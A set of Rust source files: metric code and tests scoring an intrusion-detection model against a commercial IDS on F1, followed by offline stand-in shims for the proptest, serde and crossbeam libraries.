        if precision + recall > 0.0 {
            let f1 = 2.0 * precision * recall / (precision + recall);
            if best.is_none_or(|b| f1 > b.f1) {
                best = Some(BestF1 {
                    f1,
                    precision,
                    recall,
                    threshold: t,
                });
            }
        }
    }
    best
}

/// The Section V-B comparison on the predicted-positive benchmark set.
#[derive(Debug, Clone, Copy, PartialEq, Serialize, Deserialize)]
pub struct F1Comparison {
    /// Model precision on its predicted-positive set (= PO&I).
    pub model_precision: f64,
    /// Model recall on that set (1.0 by construction, per the paper).
    pub model_recall: f64,
    /// Model F1.
    pub model_f1: f64,
    /// Commercial IDS recall `uS / (xT + u(1−x)S)`.
    pub ids_recall: f64,
    /// Commercial IDS precision (assumed 1.0, per the paper).
    pub ids_precision: f64,
    /// Commercial IDS F1.
    pub ids_f1: f64,
    /// `S`: intrusions the commercial IDS spots on the whole test set.
    pub s_ids_alerts: usize,
    /// `T`: size of the model's predicted-positive set.
    pub t_predicted: usize,
}

/// Computes the Section V-B F1 comparison.
///
/// `u` is the calibrated in-box recall, `threshold` the calibrated
/// detection threshold. Returns `None` when the model predicts nothing
/// positive or the IDS alerts on nothing (the formulas degenerate).
pub fn f1_comparison(samples: &[ScoredSample], threshold: f32, u: f64) -> Option<F1Comparison> {
    let t_predicted = samples.iter().filter(|s| s.score >= threshold).count();
    let s_ids_alerts = samples.iter().filter(|s| s.in_box).count();
    if t_predicted == 0 || s_ids_alerts == 0 {
        return None;
    }
    let x = out_of_box_precision(samples, threshold)?;
    let model_precision = overall_precision(samples, threshold)?;
    // On the predicted-positive benchmark, every true positive is, by
    // construction, predicted by the model.
    let model_recall = 1.0;
    let model_f1 = 2.0 * model_precision * model_recall / (model_precision + model_recall);

    // The paper's approximation: the IDS catches only in-box intrusions;
    // of the model's xT out-of-box true positives it misses all but the
    // u·S it already knew. recall ≈ uS / (xT + u(1−x)S).
    let s = s_ids_alerts as f64;
    let t = t_predicted as f64;
    let denom = x * t + u * (1.0 - x) * s;
    let ids_recall = if denom > 0.0 {
        (u * s / denom).min(1.0)
    } else {
        1.0
    };
    let ids_precision = 1.0;
    let ids_f1 = 2.0 * ids_precision * ids_recall / (ids_precision + ids_recall);

    Some(F1Comparison {
        model_precision,
        model_recall,
        model_f1,
        ids_recall,
        ids_precision,
        ids_f1,
        s_ids_alerts,
        t_predicted,
    })
}

#[cfg(test)]
mod tests {
    use super::*;

    fn sample(score: f32, malicious: bool, in_box: bool) -> ScoredSample {
        ScoredSample {
            score,
            malicious,
            in_box,
        }
    }

    /// 3 in-box (high scores), 2 out-of-box hits, 1 false alarm,
    /// benign mass below.
    fn toy() -> Vec<ScoredSample> {
        vec![
            sample(0.99, true, true),
            sample(0.95, true, true),
            sample(0.90, true, true),
            sample(0.85, true, false),  // out-of-box hit
            sample(0.80, false, false), // false alarm above threshold
            sample(0.92, true, false),  // out-of-box hit
            sample(0.10, false, false),
            sample(0.05, false, false),
            sample(0.01, false, false),
        ]
    }

    #[test]
    fn threshold_recalls_all_in_box() {
        let t = calibrate_threshold(&toy(), 1.0).unwrap();
        assert_eq!(t, 0.90);
        // Every in-box sample is at or above it.
        assert!(toy().iter().filter(|s| s.in_box).all(|s| s.score >= t));
    }

    #[test]
    fn partial_recall_raises_threshold() {
        // u = 0.5 over 3 in-box scores keeps ceil(1.5) = 2 of them.
        let t = calibrate_threshold(&toy(), 0.5).unwrap();
        assert_eq!(t, 0.95);
        // u = 0.67 needs ceil(2.01) = 3, i.e. all of them.
        let t = calibrate_threshold(&toy(), 0.67).unwrap();
        assert_eq!(t, 0.90);
    }

    #[test]
    fn no_in_box_returns_none() {
        let samples = vec![sample(0.5, true, false)];
        assert_eq!(calibrate_threshold(&samples, 1.0), None);
    }

    #[test]
    fn po_counts_only_out_of_box_predictions() {
        let samples = toy();
        let t = calibrate_threshold(&samples, 1.0).unwrap();
        // Predicted positives not in-box: scores 0.92 (mal), 0.85? No —
        // 0.85 < 0.90. So {0.92 mal}. PO = 1.0.
        assert_eq!(out_of_box_precision(&samples, t), Some(1.0));
        // Lower threshold pulls in 0.85 (mal) and 0.80 (benign): 2/3.
        let po = out_of_box_precision(&samples, 0.80).unwrap();
        assert!((po - 2.0 / 3.0).abs() < 1e-9);
    }

    #[test]
    fn overall_precision_includes_in_box() {
        let samples = toy();
        // At 0.80: positives = 3 in-box + 0.92 + 0.85 + 0.80 → 5 mal / 6.
        let p = overall_precision(&samples, 0.80).unwrap();
        assert!((p - 5.0 / 6.0).abs() < 1e-9);
    }

    #[test]
    fn precision_at_top_ranks_out_of_box_only() {
        let samples = toy();
        // Out-of-box candidates by score: 0.92(m), 0.85(m), 0.80(b), …
        assert_eq!(precision_at_top(&samples, 1), Some(1.0));
        assert_eq!(precision_at_top(&samples, 2), Some(1.0));
        let p3 = precision_at_top(&samples, 3).unwrap();
        assert!((p3 - 2.0 / 3.0).abs() < 1e-9);
    }

    #[test]
    fn precision_at_top_handles_small_candidate_sets() {
        let samples = vec![sample(0.9, true, false), sample(0.1, false, false)];
        assert_eq!(precision_at_top(&samples, 100), Some(0.5));
        let only_in_box = vec![sample(0.9, true, true)];
        assert_eq!(precision_at_top(&only_in_box, 10), None);
    }

    #[test]
    fn f1_model_beats_ids_when_out_of_box_found() {
        let samples = toy();
        let t = calibrate_threshold(&samples, 1.0).unwrap();
        let cmp = f1_comparison(&samples, t, 1.0).unwrap();
        assert!(cmp.model_f1 > cmp.ids_f1, "{cmp:?}");
        assert!(cmp.ids_recall < 1.0);
        assert_eq!(cmp.s_ids_alerts, 3);
        // Predicted positives at t=0.90: 0.99, 0.95, 0.90, 0.92 → 4.
        assert_eq!(cmp.t_predicted, 4);
    }

    #[test]
    fn f1_degenerates_to_none() {
        let no_alerts = vec![sample(0.9, true, false)];
        assert_eq!(f1_comparison(&no_alerts, 0.5, 1.0), None);
        let nothing_predicted = vec![sample(0.1, true, true)];
        assert_eq!(f1_comparison(&nothing_predicted, 0.5, 1.0), None);
    }

    #[test]
    fn metrics_are_bounded() {
        let samples = toy();
        for thresh in [0.0f32, 0.5, 0.9, 1.0] {
            if let Some(p) = out_of_box_precision(&samples, thresh) {
                assert!((0.0..=1.0).contains(&p));
            }
            if let Some(p) = overall_precision(&samples, thresh) {
                assert!((0.0..=1.0).contains(&p));
            }
        }
        for v in [1usize, 3, 10] {
            if let Some(p) = precision_at_top(&samples, v) {
                assert!((0.0..=1.0).contains(&p));
            }
        }
    }

    #[test]
    #[should_panic(expected = "u must be")]
    fn bad_u_panics() {
        let _ = calibrate_threshold(&toy(), 0.0);
    }

    #[test]
    fn best_f1_finds_the_perfect_separator() {
        let samples = vec![
            sample(0.9, true, false),
            sample(0.8, true, true),
            sample(0.2, false, false),
            sample(0.1, false, false),
        ];
        let best = best_f1(&samples).unwrap();
        assert_eq!(best.f1, 1.0);
        assert_eq!(best.threshold, 0.8);
        assert_eq!(best.precision, 1.0);
        assert_eq!(best.recall, 1.0);
    }

    #[test]
    fn best_f1_trades_precision_for_recall() {
        // Thresholding at 0.9 → P=1, R=1/2, F1=2/3; at 0.5 → P=2/3,
        // R=1, F1=0.8. The sweep must pick the lower cut.
        let samples = vec![
            sample(0.9, true, false),
            sample(0.7, false, false),
            sample(0.5, true, false),
            sample(0.1, false, false),
        ];
        let best = best_f1(&samples).unwrap();
        assert!((best.f1 - 0.8).abs() < 1e-9, "{best:?}");
        assert_eq!(best.threshold, 0.5);
    }

    #[test]
    fn best_f1_never_splits_tied_scores() {
        // One malicious and nine benign share a score: the only
        // achievable cuts are "all ten" or "none", so F1 is pinned to
        // 2·0.1/1.1 — a sweep that split the tie would report 1.0.
        let mut samples = vec![sample(0.5, true, false)];
        samples.extend(std::iter::repeat_n(sample(0.5, false, false), 9));
        let best = best_f1(&samples).unwrap();
        assert!((best.f1 - 2.0 * 0.1 / 1.1).abs() < 1e-9, "{best:?}");
    }

    #[test]
    fn best_f1_undefined_without_positives() {
        assert_eq!(best_f1(&[sample(0.9, false, false)]), None);
        assert_eq!(best_f1(&[]), None);
    }
}
