//! Offline shim for the `proptest` API surface this workspace uses:
//! the `proptest! { #[test] fn name(x in strategy, …) { … } }` macro,
//! `prop_assert!` / `prop_assert_eq!` / `prop_assume!`, numeric-range
//! strategies, `prop::collection::vec`, `prop::sample::select`,
//! `Strategy::prop_map`, and `&str` regex strategies covering the
//! pattern subset that appears in the test suite (character classes,
//! `.`, and `{n,m}` quantifiers).
//!
//! Divergences from upstream: no shrinking (a failing case reports its
//! inputs verbatim), and a fixed per-test deterministic seed rather
//! than an entropy-derived one, so CI failures reproduce locally.

use rand::rngs::StdRng;
use rand::{Rng, SeedableRng};
use std::fmt::Debug;

pub mod prop;
mod regex_gen;

/// Cases each `proptest!` test runs (upstream default is 256; kept
/// lower because several suite bodies retrain a tokenizer per case).
pub const CASES: usize = 48;

/// Why a generated case did not pass.
#[derive(Debug)]
pub enum TestCaseError {
    /// `prop_assume!` rejected the inputs; the case is re-drawn.
    Reject,
    /// An assertion failed.
    Fail(String),
}

/// A source of random values for one generated argument.
pub trait Strategy {
    /// The generated type.
    type Value: Debug;

    /// Draws one value.
    fn generate(&self, rng: &mut StdRng) -> Self::Value;

    /// Maps generated values through `f` (as `Strategy::prop_map`).
    fn prop_map<U: Debug, F: Fn(Self::Value) -> U>(self, f: F) -> Map<Self, F>
    where
        Self: Sized,
    {
        Map { inner: self, f }
    }
}

/// The [`Strategy::prop_map`] adapter.
pub struct Map<S, F> {
    inner: S,
    f: F,
}

impl<S: Strategy, U: Debug, F: Fn(S::Value) -> U> Strategy for Map<S, F> {
    type Value = U;

    fn generate(&self, rng: &mut StdRng) -> U {
        (self.f)(self.inner.generate(rng))
    }
}

macro_rules! impl_range_strategy {
    ($($t:ty),*) => {$(
        impl Strategy for std::ops::Range<$t> {
            type Value = $t;

            fn generate(&self, rng: &mut StdRng) -> $t {
                rng.gen_range(self.clone())
            }
        }

        impl Strategy for std::ops::RangeInclusive<$t> {
            type Value = $t;

            fn generate(&self, rng: &mut StdRng) -> $t {
                rng.gen_range(self.clone())
            }
        }
    )*};
}

impl_range_strategy!(i8, i16, i32, i64, isize, u8, u16, u32, u64, usize, f32, f64);

/// String strategy from a regex-subset pattern (see [`regex_gen`]).
impl Strategy for &str {
    type Value = String;

    fn generate(&self, rng: &mut StdRng) -> String {
        regex_gen::generate(self, rng)
    }
}

/// Runs up to `CASES` accepted cases of `case`, panicking with the
/// case's rendered inputs on the first failure.
pub fn run_cases<F>(name: &str, mut case: F)
where
    F: FnMut(&mut StdRng) -> Result<(), (TestCaseError, String)>,
{
    let mut seed = 0xC0FF_EE00u64;
    for b in name.bytes() {
        seed = seed.wrapping_mul(1099511628211).wrapping_add(b as u64);
    }
    let mut rng = StdRng::seed_from_u64(seed);
    let mut accepted = 0usize;
    let mut attempts = 0usize;
    while accepted < CASES {
        attempts += 1;
        assert!(
            attempts <= CASES * 20,
            "proptest shim: {name} rejected too many cases (prop_assume too strict?)"
        );
        match case(&mut rng) {
            Ok(()) => accepted += 1,
            Err((TestCaseError::Reject, _)) => continue,
            Err((TestCaseError::Fail(msg), inputs)) => {
                panic!("proptest case failed: {msg}\n  minimal repro inputs: {inputs}")
            }
        }
    }
}

/// Everything the suite imports via `use proptest::prelude::*`.
pub mod prelude {
    pub use crate::prop;
    pub use crate::{prop_assert, prop_assert_eq, prop_assume, proptest, Strategy, TestCaseError};
}

/// Declares property tests: each `fn name(arg in strategy, …) { body }`
/// becomes a `#[test]` looping over generated cases.
#[macro_export]
macro_rules! proptest {
    ($($(#[$meta:meta])* fn $name:ident($($arg:ident in $strat:expr),+ $(,)?) $body:block)*) => {
        $(
            $(#[$meta])*
            fn $name() {
                $crate::run_cases(
                    concat!(module_path!(), "::", stringify!($name)),
                    |rng| {
                        $(let $arg = $crate::Strategy::generate(&($strat), rng);)+
                        let mut inputs = String::new();
                        $(
                            inputs.push_str(stringify!($arg));
                            inputs.push_str(" = ");
                            inputs.push_str(&format!("{:?}; ", &$arg));
                        )+
                        let outcome: ::std::result::Result<(), $crate::TestCaseError> =
                            (move || {
                                $body
                                Ok(())
                            })();
                        outcome.map_err(|e| (e, inputs))
                    },
                );
            }
        )*
    };
}

/// `assert!` that reports through the proptest harness.
#[macro_export]
macro_rules! prop_assert {
    ($cond:expr) => {
        $crate::prop_assert!($cond, "assertion failed: {}", stringify!($cond))
    };
    ($cond:expr, $($fmt:tt)+) => {
        if !$cond {
            return ::std::result::Result::Err($crate::TestCaseError::Fail(format!($($fmt)+)));
        }
    };
}

/// `assert_eq!` that reports through the proptest harness.
#[macro_export]
macro_rules! prop_assert_eq {
    ($left:expr, $right:expr $(,)?) => {{
        let left = &$left;
        let right = &$right;
        if !(left == right) {
            return ::std::result::Result::Err($crate::TestCaseError::Fail(format!(
                "assertion failed: `{} == {}`\n  left: {:?}\n right: {:?}",
                stringify!($left),
                stringify!($right),
                left,
                right
            )));
        }
    }};
}

/// Rejects the current case unless `cond` holds; rejected cases are
/// re-drawn and do not count toward the case budget.
#[macro_export]
macro_rules! prop_assume {
    ($cond:expr) => {
        if !$cond {
            return ::std::result::Result::Err($crate::TestCaseError::Reject);
        }
    };
}
