//! The `prop::` namespace (`collection::vec`, `sample::select`).

/// Collection strategies.
pub mod collection {
    use crate::Strategy;
    use rand::rngs::StdRng;
    use rand::Rng;
    use std::fmt::Debug;
    use std::ops::Range;

    /// Length specification for [`vec`]: a fixed size or a half-open
    /// range, as in proptest's `SizeRange`.
    pub struct SizeRange(Range<usize>);

    impl From<usize> for SizeRange {
        fn from(n: usize) -> Self {
            SizeRange(n..n + 1)
        }
    }

    impl From<Range<usize>> for SizeRange {
        fn from(r: Range<usize>) -> Self {
            SizeRange(r)
        }
    }

    /// Strategy for `Vec<S::Value>` with a length drawn from `len`.
    pub struct VecStrategy<S> {
        element: S,
        len: Range<usize>,
    }

    /// `vec(element, min..max)` (or `vec(element, n)`): vectors of
    /// `element` values.
    pub fn vec<S: Strategy>(element: S, len: impl Into<SizeRange>) -> VecStrategy<S> {
        VecStrategy {
            element,
            len: len.into().0,
        }
    }

    impl<S: Strategy> Strategy for VecStrategy<S>
    where
        S::Value: Debug,
    {
        type Value = Vec<S::Value>;

        fn generate(&self, rng: &mut StdRng) -> Vec<S::Value> {
            let n = if self.len.start >= self.len.end {
                self.len.start
            } else {
                rng.gen_range(self.len.clone())
            };
            (0..n).map(|_| self.element.generate(rng)).collect()
        }
    }
}

/// Sampling strategies.
pub mod sample {
    use crate::Strategy;
    use rand::rngs::StdRng;
    use rand::seq::SliceRandom;
    use std::fmt::Debug;

    /// Strategy yielding clones of elements of a fixed pool.
    pub struct Select<T> {
        pool: Vec<T>,
    }

    /// `select(pool)`: one uniformly chosen element per case.
    ///
    /// # Panics
    ///
    /// Panics at generation time if `pool` is empty.
    pub fn select<T: Clone + Debug>(pool: Vec<T>) -> Select<T> {
        Select { pool }
    }

    impl<T: Clone + Debug> Strategy for Select<T> {
        type Value = T;

        fn generate(&self, rng: &mut StdRng) -> T {
            self.pool
                .choose(rng)
                .expect("select() needs a non-empty pool")
                .clone()
        }
    }
}
