//! Value generation for the regex subset used as string strategies.
//!
//! Supported syntax: literal characters, `.` (any printable character,
//! drawn from an ASCII-heavy pool with a few multi-byte code points),
//! character classes `[…]` with literal chars and `a-z` ranges, and
//! `{n}` / `{n,m}` quantifiers on the preceding atom. This covers every
//! pattern in the workspace's test suites; unsupported syntax (groups,
//! alternation, `*`/`+`/`?`) panics loudly rather than mis-generating.

use rand::rngs::StdRng;
use rand::seq::SliceRandom;
use rand::Rng;

/// Pool backing `.`: printable ASCII plus characters that exercise
/// multi-byte and quoting edge cases in parsers.
const ANY_EXTRA: &[char] = &['ä', 'ñ', '語', '🦀', '\t'];

#[derive(Debug, Clone)]
enum Atom {
    Literal(char),
    Any,
    Class(Vec<char>),
}

#[derive(Debug, Clone)]
struct Piece {
    atom: Atom,
    min: usize,
    max: usize,
}

fn parse(pattern: &str) -> Vec<Piece> {
    let chars: Vec<char> = pattern.chars().collect();
    let mut pieces: Vec<Piece> = Vec::new();
    let mut i = 0;
    while i < chars.len() {
        let atom = match chars[i] {
            '.' => {
                i += 1;
                Atom::Any
            }
            '[' => {
                let close = chars[i + 1..]
                    .iter()
                    .position(|&c| c == ']')
                    .map(|p| p + i + 1)
                    .unwrap_or_else(|| panic!("unclosed class in pattern {pattern:?}"));
                let mut set = Vec::new();
                let body = &chars[i + 1..close];
                let mut j = 0;
                while j < body.len() {
                    if j + 2 < body.len() && body[j + 1] == '-' {
                        let (lo, hi) = (body[j] as u32, body[j + 2] as u32);
                        assert!(lo <= hi, "inverted range in pattern {pattern:?}");
                        set.extend((lo..=hi).filter_map(char::from_u32));
                        j += 3;
                    } else {
                        set.push(body[j]);
                        j += 1;
                    }
                }
                assert!(!set.is_empty(), "empty class in pattern {pattern:?}");
                i = close + 1;
                Atom::Class(set)
            }
            '\\' => {
                let c = *chars
                    .get(i + 1)
                    .unwrap_or_else(|| panic!("dangling escape in pattern {pattern:?}"));
                i += 2;
                Atom::Literal(c)
            }
            '(' | ')' | '|' | '*' | '+' | '?' => {
                panic!(
                    "regex feature {:?} not supported by the proptest shim",
                    chars[i]
                )
            }
            c => {
                i += 1;
                Atom::Literal(c)
            }
        };
        // Optional {n} / {n,m} quantifier.
        let (min, max) = if i < chars.len() && chars[i] == '{' {
            let close = chars[i + 1..]
                .iter()
                .position(|&c| c == '}')
                .map(|p| p + i + 1)
                .unwrap_or_else(|| panic!("unclosed quantifier in pattern {pattern:?}"));
            let body: String = chars[i + 1..close].iter().collect();
            i = close + 1;
            match body.split_once(',') {
                Some((lo, hi)) => (
                    lo.trim().parse().expect("quantifier lower bound"),
                    hi.trim().parse().expect("quantifier upper bound"),
                ),
                None => {
                    let n = body.trim().parse().expect("quantifier count");
                    (n, n)
                }
            }
        } else {
            (1, 1)
        };
        pieces.push(Piece { atom, min, max });
    }
    pieces
}

fn sample_any(rng: &mut StdRng) -> char {
    // Mostly printable ASCII; occasionally an exotic code point.
    if rng.gen_bool(0.06) {
        *ANY_EXTRA.choose(rng).expect("pool is non-empty")
    } else {
        char::from_u32(rng.gen_range(0x20u32..0x7F)).expect("printable ascii")
    }
}

/// Generates one string matching `pattern`.
pub fn generate(pattern: &str, rng: &mut StdRng) -> String {
    let mut out = String::new();
    for piece in parse(pattern) {
        let count = if piece.min == piece.max {
            piece.min
        } else {
            rng.gen_range(piece.min..=piece.max)
        };
        for _ in 0..count {
            match &piece.atom {
                Atom::Literal(c) => out.push(*c),
                Atom::Any => out.push(sample_any(rng)),
                Atom::Class(set) => out.push(*set.choose(rng).expect("non-empty class")),
            }
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use rand::SeedableRng;

    #[test]
    fn class_with_ranges_and_literals() {
        let mut rng = StdRng::seed_from_u64(1);
        for _ in 0..200 {
            let s = generate("[a-z0-9/.-]{1,8}", &mut rng);
            assert!((1..=8).contains(&s.chars().count()), "{s:?}");
            assert!(s
                .chars()
                .all(|c| c.is_ascii_lowercase() || c.is_ascii_digit() || "/.-".contains(c)));
        }
    }

    #[test]
    fn dot_quantifier_lengths() {
        let mut rng = StdRng::seed_from_u64(2);
        for _ in 0..100 {
            let s = generate(".{0,20}", &mut rng);
            assert!(s.chars().count() <= 20);
        }
    }

    #[test]
    fn leading_atom_then_class() {
        let mut rng = StdRng::seed_from_u64(3);
        for _ in 0..100 {
            let s = generate("[a-z][a-z0-9/._-]{0,8}", &mut rng);
            assert!(s.chars().next().unwrap().is_ascii_lowercase());
        }
    }

    #[test]
    fn literal_passthrough() {
        let mut rng = StdRng::seed_from_u64(4);
        assert_eq!(generate("abc", &mut rng), "abc");
    }
}
