//! Offline shim for `serde_derive`: the workspace only *annotates*
//! types with `#[derive(Serialize, Deserialize)]` and `#[serde(...)]`
//! field attributes — nothing is actually serialized (no serde_json or
//! other format crate exists here). The derives therefore expand to
//! nothing; they exist so the annotations compile and so a future PR
//! can swap in the real serde without touching call sites.

use proc_macro::TokenStream;

/// No-op `Serialize` derive; accepts (and ignores) `#[serde(...)]`.
#[proc_macro_derive(Serialize, attributes(serde))]
pub fn derive_serialize(_input: TokenStream) -> TokenStream {
    TokenStream::new()
}

/// No-op `Deserialize` derive; accepts (and ignores) `#[serde(...)]`.
#[proc_macro_derive(Deserialize, attributes(serde))]
pub fn derive_deserialize(_input: TokenStream) -> TokenStream {
    TokenStream::new()
}
