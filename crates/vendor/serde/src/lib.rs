//! Offline shim for `serde`: marker traits plus the no-op derives from
//! the sibling `serde_derive` shim. See that crate for the rationale.

pub use serde_derive::{Deserialize, Serialize};

/// Marker stand-in for `serde::Serialize`.
pub trait Serialize {}

/// Marker stand-in for `serde::Deserialize`.
pub trait Deserialize<'de>: Sized {}
