//! Offline shim for the two `crossbeam` entry points this workspace
//! uses: [`scope`] with borrowing worker closures, and the bounded
//! MPMC [`channel`] the serving layer queues requests on. `scope` is
//! implemented on `std::thread::scope` (stabilized after crossbeam
//! popularized the pattern), so behaviour matches: workers may borrow
//! from the caller's stack and are all joined before `scope` returns.
//!
//! Divergence from upstream: a panicking worker propagates its panic
//! out of [`scope`] directly (std semantics) instead of surfacing as
//! `Err`; the `Result` wrapper is kept so call sites written against
//! crossbeam compile unchanged.

pub mod channel;

use std::any::Any;

/// Handle passed to the scope closure; mirrors
/// `crossbeam::thread::Scope`.
#[derive(Clone, Copy)]
pub struct Scope<'scope, 'env: 'scope> {
    inner: &'scope std::thread::Scope<'scope, 'env>,
}

impl<'scope, 'env> Scope<'scope, 'env> {
    /// Spawns a scoped worker. The closure receives the scope again so
    /// workers can spawn sub-workers, as in crossbeam.
    pub fn spawn<F, T>(&self, f: F) -> std::thread::ScopedJoinHandle<'scope, T>
    where
        F: FnOnce(&Scope<'scope, 'env>) -> T + Send + 'scope,
        T: Send + 'scope,
    {
        let scope = *self;
        self.inner.spawn(move || f(&scope))
    }
}

/// Runs `f` with a scope in which borrowing threads can be spawned;
/// joins them all before returning.
pub fn scope<'env, F, R>(f: F) -> Result<R, Box<dyn Any + Send + 'static>>
where
    F: for<'scope> FnOnce(&Scope<'scope, 'env>) -> R,
{
    Ok(std::thread::scope(|s| f(&Scope { inner: s })))
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn workers_can_borrow_and_mutate_disjoint_chunks() {
        let mut data = vec![0usize; 64];
        let chunks: Vec<&mut [usize]> = data.chunks_mut(16).collect();
        scope(|s| {
            for (i, chunk) in chunks.into_iter().enumerate() {
                s.spawn(move |_| {
                    for v in chunk.iter_mut() {
                        *v = i + 1;
                    }
                });
            }
        })
        .unwrap();
        assert!(data[..16].iter().all(|&v| v == 1));
        assert!(data[48..].iter().all(|&v| v == 4));
    }

    #[test]
    fn scope_returns_closure_value() {
        let r = scope(|_| 42).unwrap();
        assert_eq!(r, 42);
    }

    #[test]
    fn nested_spawn_compiles_and_runs() {
        let out = std::sync::Mutex::new(0usize);
        scope(|s| {
            s.spawn(|inner| {
                inner.spawn(|_| {
                    *out.lock().unwrap() += 1;
                });
            });
        })
        .unwrap();
        assert_eq!(*out.lock().unwrap(), 1);
    }
}
