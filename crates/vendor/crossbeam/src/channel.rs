//! Offline shim for `crossbeam::channel`: the bounded MPMC channel the
//! serving layer queues scoring requests on. Implemented on
//! `Mutex<VecDeque>` + two condvars (not-full / not-empty), so
//! behaviour matches upstream for the API subset used here:
//!
//! * [`bounded`] — capacity-limited queue; [`Sender::send`] blocks
//!   while full, [`Receiver::recv`] blocks while empty.
//! * Both halves are cloneable (multi-producer, multi-consumer); a
//!   message is delivered to exactly one receiver.
//! * Dropping every `Sender` disconnects the channel: blocked and
//!   future `recv` calls drain what remains, then return
//!   [`RecvError`]. Dropping every `Receiver` makes `send` return the
//!   rejected message as [`SendError`].
//! * [`Receiver::recv_timeout`] and [`Receiver::try_recv`] support the
//!   micro-batching loop (wait briefly for more work, never forever).
//!
//! Divergence from upstream: no `select!`, no zero-capacity rendezvous
//! channels (`bounded(0)` is rounded up to 1), and no unbounded
//! flavour — none are used in this workspace.

use std::collections::VecDeque;
use std::sync::{Arc, Condvar, Mutex};
use std::time::{Duration, Instant};

/// Error returned by [`Sender::send`] when every receiver is gone;
/// carries the rejected message like upstream.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct SendError<T>(pub T);

/// Error returned by [`Receiver::recv`] when the channel is empty and
/// every sender is gone.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub struct RecvError;

/// Why a [`Receiver::recv_timeout`] returned without a message.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RecvTimeoutError {
    /// No message arrived within the timeout.
    Timeout,
    /// Channel empty and every sender dropped.
    Disconnected,
}

/// Why a [`Receiver::try_recv`] returned without a message.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum TryRecvError {
    /// The queue is currently empty.
    Empty,
    /// Channel empty and every sender dropped.
    Disconnected,
}

struct State<T> {
    queue: VecDeque<T>,
    senders: usize,
    receivers: usize,
}

struct Shared<T> {
    state: Mutex<State<T>>,
    capacity: usize,
    not_empty: Condvar,
    not_full: Condvar,
}

/// The producing half of a bounded channel; clone for more producers.
pub struct Sender<T> {
    shared: Arc<Shared<T>>,
}

/// The consuming half of a bounded channel; clone for more consumers.
pub struct Receiver<T> {
    shared: Arc<Shared<T>>,
}

/// Creates a bounded MPMC channel holding at most `capacity` queued
/// messages (`0` is rounded up to `1`; the zero-capacity rendezvous
/// flavour is not shimmed).
pub fn bounded<T>(capacity: usize) -> (Sender<T>, Receiver<T>) {
    let shared = Arc::new(Shared {
        state: Mutex::new(State {
            queue: VecDeque::new(),
            senders: 1,
            receivers: 1,
        }),
        capacity: capacity.max(1),
        not_empty: Condvar::new(),
        not_full: Condvar::new(),
    });
    (
        Sender {
            shared: shared.clone(),
        },
        Receiver { shared },
    )
}

impl<T> Sender<T> {
    /// Blocks until queue space frees up, then enqueues `msg`. Returns
    /// the message back if every receiver has been dropped.
    pub fn send(&self, msg: T) -> Result<(), SendError<T>> {
        let mut state = self.shared.state.lock().unwrap();
        loop {
            if state.receivers == 0 {
                return Err(SendError(msg));
            }
            if state.queue.len() < self.shared.capacity {
                state.queue.push_back(msg);
                drop(state);
                self.shared.not_empty.notify_one();
                return Ok(());
            }
            state = self.shared.not_full.wait(state).unwrap();
        }
    }
}

impl<T> Clone for Sender<T> {
    fn clone(&self) -> Self {
        self.shared.state.lock().unwrap().senders += 1;
        Sender {
            shared: self.shared.clone(),
        }
    }
}

impl<T> Drop for Sender<T> {
    fn drop(&mut self) {
        let mut state = self.shared.state.lock().unwrap();
        state.senders -= 1;
        if state.senders == 0 {
            drop(state);
            // Wake receivers parked in recv so they observe the
            // disconnect instead of sleeping forever.
            self.shared.not_empty.notify_all();
        }
    }
}

impl<T> Receiver<T> {
    /// Blocks until a message arrives; drains remaining messages after
    /// every sender is gone, then reports the disconnect.
    pub fn recv(&self) -> Result<T, RecvError> {
        let mut state = self.shared.state.lock().unwrap();
        loop {
            if let Some(msg) = state.queue.pop_front() {
                drop(state);
                self.shared.not_full.notify_one();
                return Ok(msg);
            }
            if state.senders == 0 {
                return Err(RecvError);
            }
            state = self.shared.not_empty.wait(state).unwrap();
        }
    }

    /// [`Receiver::recv`] bounded by a deadline.
    pub fn recv_timeout(&self, timeout: Duration) -> Result<T, RecvTimeoutError> {
        let deadline = Instant::now() + timeout;
        let mut state = self.shared.state.lock().unwrap();
        loop {
            if let Some(msg) = state.queue.pop_front() {
                drop(state);
                self.shared.not_full.notify_one();
                return Ok(msg);
            }
            if state.senders == 0 {
                return Err(RecvTimeoutError::Disconnected);
            }
            let now = Instant::now();
            if now >= deadline {
                return Err(RecvTimeoutError::Timeout);
            }
            let (next, timed_out) = self
                .shared
                .not_empty
                .wait_timeout(state, deadline - now)
                .unwrap();
            state = next;
            if timed_out.timed_out() && state.queue.is_empty() {
                return if state.senders == 0 {
                    Err(RecvTimeoutError::Disconnected)
                } else {
                    Err(RecvTimeoutError::Timeout)
                };
            }
        }
    }

    /// Drains queued messages under **one** lock acquisition for as
    /// long as `take` accepts the next front message, appending them
    /// to `out`; returns how many were taken. This is the
    /// micro-batching fast path: assembling a 24-line batch costs one
    /// mutex round-trip instead of 24 contended `try_recv` calls, and
    /// blocked senders are woken once per drain rather than once per
    /// message. The predicate sees each message *before* it is taken,
    /// so a consumer with a cost budget (e.g. lines per scoring
    /// batch) stops exactly at the budget. (Upstream crossbeam spells
    /// this `try_iter().take_while(...)`; the shim makes the batching
    /// explicit.)
    pub fn try_recv_while<F: FnMut(&T) -> bool>(&self, out: &mut Vec<T>, mut take: F) -> usize {
        let mut state = self.shared.state.lock().unwrap();
        let mut n = 0;
        while let Some(front) = state.queue.front() {
            if !take(front) {
                break;
            }
            let msg = state.queue.pop_front().expect("front exists");
            out.push(msg);
            n += 1;
        }
        drop(state);
        if n > 0 {
            self.shared.not_full.notify_all();
        }
        n
    }

    /// Non-blocking receive.
    pub fn try_recv(&self) -> Result<T, TryRecvError> {
        let mut state = self.shared.state.lock().unwrap();
        if let Some(msg) = state.queue.pop_front() {
            drop(state);
            self.shared.not_full.notify_one();
            return Ok(msg);
        }
        if state.senders == 0 {
            Err(TryRecvError::Disconnected)
        } else {
            Err(TryRecvError::Empty)
        }
    }

    /// Queued message count right now (racy by nature; for tests and
    /// monitoring).
    pub fn len(&self) -> usize {
        self.shared.state.lock().unwrap().queue.len()
    }

    /// Whether the queue is empty right now.
    pub fn is_empty(&self) -> bool {
        self.len() == 0
    }
}

impl<T> Clone for Receiver<T> {
    fn clone(&self) -> Self {
        self.shared.state.lock().unwrap().receivers += 1;
        Receiver {
            shared: self.shared.clone(),
        }
    }
}

